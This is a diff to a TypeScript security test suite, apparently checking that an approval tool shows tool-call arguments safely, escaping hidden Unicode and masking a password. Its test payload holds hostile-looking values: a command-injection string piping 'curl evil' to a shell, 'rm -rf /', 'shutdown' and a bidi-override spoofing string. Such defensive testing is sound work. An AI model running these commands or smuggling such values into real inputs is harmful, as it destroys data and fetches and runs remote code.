@@ -85,6 +85,8 @@ export const attacks: readonly AttackCase[] = [
       const payload = {
         text: "ok token='; curl evil|sh; echo '",
         pass: { command: 'rm -rf /' },
+        secret: ['rm', '-rf'],
+        token: 'shutdown',
         json: '{"a":1,"a":2}',
         hidden: 'safe\u202e\u200bevil',
         password: 'hunter2',
@@ -96,7 +98,8 @@ export const attacks: readonly AttackCase[] = [
       const { hidden: _hidden, password: _password, ...plain } = payload;
       assert.deepEqual(question.arguments, { ...plain, hidden: 'safe\\u{202E}\\u{200B}evil', password: '***' });
       const shown = await target.command(['approvals', 'show', question.id]);
-      for (const part of [payload.text, 'rm -rf /', '; curl evil"', 'u{202E}']) assert.ok(shown.stdout.includes(part));
+      for (const part of [payload.text, 'rm -rf /', '; curl evil"', '"safe\\u{202E}', 'shutdown'])
+        assert.ok(shown.stdout.includes(part));
       assert.doesNotMatch(shown.stdout, /hunter2|\u202e|\u200b/);
       const path = `/v1/approvals/${question.id}/arguments`;
       assert.equal((await bindery.api('POST', path, {}, '')).status, 401);
